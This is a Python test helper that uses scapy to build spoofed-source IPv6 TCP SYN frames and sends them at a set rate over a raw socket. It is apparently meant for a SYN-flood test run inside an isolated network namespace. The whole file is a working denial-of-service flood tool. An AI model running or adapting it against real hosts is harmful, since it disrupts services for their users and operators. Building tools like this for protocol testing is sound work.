#!/usr/bin/python3
"""A SYN flood over IPv6 from random sources, for tap_ipv6_syn_flood_test
and tap_proxy6_kernel_test.

hping3 floods only IPv4, so this builds --frames distinct Ethernet/IPv6/TCP
SYN frames with scapy (random sources in --prefix's /64, random ports and
sequence numbers, an MSS option, valid checksums) once, then sends them in
turn on an AF_PACKET socket bound to --iface at about --pps frames a second
until SIGINT, SIGTERM, --duration or --count frames, and prints one JSON line with how many
it sent. Run it in a network namespace that holds only the tap interface:
the target's SYN-ACKs to the random sources end there.
"""
import argparse
import ipaddress
import json
import random
import signal
import socket
import sys
import time

from scapy.layers.inet import TCP
from scapy.layers.inet6 import IPv6
from scapy.layers.l2 import Ether

stop = False


def on_signal(signum, frame):
    global stop
    stop = True


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--iface", required=True)
    p.add_argument("--dst-mac", required=True)
    p.add_argument("--target", required=True)
    p.add_argument("--port", type=int, default=80)
    p.add_argument("--prefix", required=True, help="sources: a /64 or wider")
    p.add_argument("--pps", type=float, default=5000)
    p.add_argument("--frames", type=int, default=2048)
    p.add_argument("--duration", type=float, default=60)
    p.add_argument("--count", type=int, default=0, help="stop after (0: never)")
    args = p.parse_args()
    signal.signal(signal.SIGINT, on_signal)
    signal.signal(signal.SIGTERM, on_signal)

    net = ipaddress.IPv6Network(args.prefix)
    rng = random.Random(14)
    frames = []
    for _ in range(args.frames):
        # Interface identifiers above ::ffff, clear of the test's own hosts.
        src = net[rng.randrange(1 << 16, 1 << 64)]
        f = (Ether(dst=args.dst_mac) /
             IPv6(src=str(src), dst=args.target) /
             TCP(sport=rng.randrange(1024, 65536), dport=args.port, flags="S",
                 seq=rng.randrange(1 << 32), window=65535,
                 options=[("MSS", 1440)]))
        frames.append(bytes(f))

    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((args.iface, 0))
    print("flooding %s with %d frames" % (args.target, len(frames)),
          file=sys.stderr, flush=True)
    sent = 0
    batch = max(1, int(args.pps / 100))  # 100 batches a second
    start = time.monotonic()
    while not stop and time.monotonic() - start < args.duration:
        if args.count:
            batch = min(batch, args.count - sent)
            if batch == 0:
                break
        for _ in range(batch):
            s.send(frames[sent % len(frames)])
            sent += 1
        # Pace: batch k is due at k / 100 s.
        due = start + sent / args.pps
        delay = due - time.monotonic()
        if delay > 0:
            time.sleep(delay)
    elapsed = time.monotonic() - start
    print(json.dumps({"sent": sent, "elapsed_s": round(elapsed, 3)}))


if __name__ == "__main__":
    main()
